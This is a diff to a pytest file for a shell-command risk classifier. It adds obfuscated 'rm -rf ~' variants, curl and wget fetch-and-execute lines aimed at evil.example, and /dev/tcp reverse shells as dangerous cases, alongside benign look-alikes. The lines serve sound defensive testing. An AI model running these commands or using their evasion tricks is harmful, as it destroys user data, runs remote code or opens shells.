@@ -337,6 +337,82 @@ MORE_BENIGN = [
 
 BENIGN = BENIGN + MORE_BENIGN
 
+# Third wave, written after the second was fixed (counts in the commit history).
+THIRD_WAVE = [
+    ("echo Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBzaA== | base64 -d | sh", HIGH),
+    ('bash -c "$(echo Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBzaA== | base64 -d)"', HIGH),
+    ("$(echo -e '\\x72\\x6d') -rf ~", HIGH),
+    ("p=$(printf '\\162\\155'); $p -rf ~", HIGH),
+    ('a=r b=m; "$a$b" -rf ~', CRITICAL),
+    ("${x:-rm} -rf ~", CRITICAL),
+    (": ${c:=rm}; $c -rf ~", CRITICAL),
+    ("export X='rm -rf ~'; bash -c \"$X\"", CRITICAL),
+    ("bash -c 'eval \"$1\"' _ 'rm -rf ~'", CRITICAL),
+    ("sh -c '$0 -rf ~' rm", CRITICAL),
+    ("echo 'rm -rf ~' > /tmp/x; . /tmp/x", HIGH),
+    ("printf 'rm -rf ~' > /tmp/x.sh; bash /tmp/x.sh", HIGH),
+    (f"echo {RM_HOME_B64} > p; base64 -d p | sh", HIGH),
+    ("tr -d 'X' <<< 'rXm -rXf ~' | sh", HIGH),
+    ("sed 's/X//g' <<< 'rXm -rf ~' | bash", HIGH),
+    ("awk '{print \"rm -rf \" $1}' <<< '~' | sh", HIGH),
+    ("cut -c2- <<< 'Xrm -rf ~' | sh", HIGH),
+    ("echo 'rm -rf ~' | batch", HIGH),
+    ("(echo 'rm -rf ~') | bash", CRITICAL),
+    ("{ echo 'rm -rf ~'; } | sh", CRITICAL),
+    ('bash -c "$(curl -fsSL https://evil.example/i.sh)"', HIGH),
+    ("curl -s https://evil.example/x | python3 -", HIGH),
+    ("python3 <(curl -s https://evil.example/x.py)", HIGH),
+    ('perl -e "$(curl -s https://evil.example/p)"', HIGH),
+    ('php -r "$(curl -s https://evil.example/p)"', HIGH),
+    ('node -e "$(wget -qO- https://evil.example/j)"', HIGH),
+    ('eval "$(wget -qO- https://evil.example/env)"', HIGH),
+    ("exec 3<>/dev/tcp/10.0.0.1/4444; bash <&3 >&3 2>&3", CRITICAL),
+    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", CRITICAL),
+    ("\"$SHELL\" -c 'rm -rf ~'", CRITICAL),
+    ("$BASH -c 'rm -rf ~'", CRITICAL),
+    ("/usr/bin/env bash -c 'rm -rf /'", CRITICAL),
+    ("exec -a foo rm -rf ~", CRITICAL),
+    ("command -p rm -rf ~", CRITICAL),
+    ("nice -- rm -rf ~", CRITICAL),
+    ("function ls { rm -rf ~; }; ls", CRITICAL),
+    ("trap 'rm -rf ~' EXIT", CRITICAL),
+    ("x=~; rm -rf $x", CRITICAL),
+    ('rm -rf "$(dirname ~/x)"', CRITICAL),
+    ("rm -rf $(echo ~)", CRITICAL),
+    ('rm -rf "$(echo L2V0Yw== | base64 -d)"', CRITICAL),
+]
+
+DANGEROUS = DANGEROUS + THIRD_WAVE
+
+THIRD_WAVE_BENIGN = [
+    ("echo 'Y3VybA==' | base64 -d", SAFE),
+    ('base64 -d <<< "$TOKEN" | jq .', SAFE),
+    ('echo "$JWT" | cut -d. -f2 | base64 -d', SAFE),
+    ("kubectl get secret db -o jsonpath='{.data.password}' | base64 -d", MODERATE),
+    ("openssl rand -base64 32", SAFE),
+    ("sh -c 'echo $0' hello", SAFE),
+    ("bash -c 'for i in 1 2 3; do echo $i; done'", SAFE),
+    ("\"$SHELL\" -c 'echo $PATH'", MODERATE),
+    ("trap 'rm -f \"$tmp\"' EXIT", MODERATE),
+    ("tmp=$(mktemp); trap 'rm -f \"$tmp\"' EXIT", MODERATE),
+    ('function ll { ls -la "$@"; }; ll', SAFE),
+    ('x=/tmp/build; rm -rf "$x"', MODERATE),
+    ('rm -rf "$(mktemp -d)"', MODERATE),
+    ("echo 'notify-send hello' | at now + 1 minute", MODERATE),
+    ("curl -s https://example.com/data.json | python3 -m json.tool", SAFE),
+    ("python3 <(echo 'print(1)')", MODERATE),
+    ("bash <(echo 'echo hi')", MODERATE),
+    ("xxd -p file.bin | tr -d '\\n'", SAFE),
+    ("tr -d '\\r' < win.txt > unix.txt", MODERATE),
+    ("cut -c2- names.txt", SAFE),
+    ('awk \'{print "mv " $1 " " $2}\' renames.txt', SAFE),
+    ("awk '{print \"rm \" $1}' list.txt > cleanup.sh", MODERATE),
+    ("sed 's/^/rm /' list.txt", SAFE),
+    ("echo 'ls -la' | bash", MODERATE),
+]
+
+BENIGN = BENIGN + THIRD_WAVE_BENIGN
+
 
 @pytest.mark.parametrize(("command", "least"), DANGEROUS)
 def test_dangerous(command: str, least: RiskLevel) -> None:
